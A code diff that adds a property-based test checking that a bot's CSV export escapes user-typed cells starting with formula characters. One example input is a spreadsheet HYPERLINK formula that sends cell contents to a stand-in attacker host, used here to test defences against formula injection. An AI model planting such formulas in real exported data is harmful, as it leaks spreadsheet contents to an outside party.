@@ -350,3 +350,22 @@ def test_pieces_fit_telegram_and_lose_only_blanks(text: str, limit: int) -> None
     assert not text[cursor:].strip()
     if utf16_len(text) <= limit and text.strip():
         assert shown == [text]
+
+
+@given(st.sampled_from(["=", "+", "-", "@", "\t", "\r"]), st.text(max_size=40))
+@example("=", 'HYPERLINK("http://evil.example/?"&A1,"click")')
+def test_typed_text_never_becomes_a_spreadsheet_formula(start: str, rest: str) -> None:
+    """Every cell a person typed (a place, an account) that a spreadsheet would run reads as text."""
+    from datetime import UTC, date, datetime
+
+    from bot.services.export import to_csv
+    from storage.incidents import Incident
+
+    typed = start + rest
+    incident = Incident(
+        "i", "o", "R-1", "p", None, "threat", None, date(2026, 11, 20), "other", typed, None, None, typed,
+        None, None, "open", None, None, datetime(2026, 11, 20, tzinfo=UTC),
+    )  # fmt: skip
+    rows = list(csv.reader(io.StringIO(to_csv([incident], with_accounts=True).decode("utf-8-sig"), newline="")))
+    place, account = rows[1][6], rows[1][-1]
+    assert place == account == "'" + typed
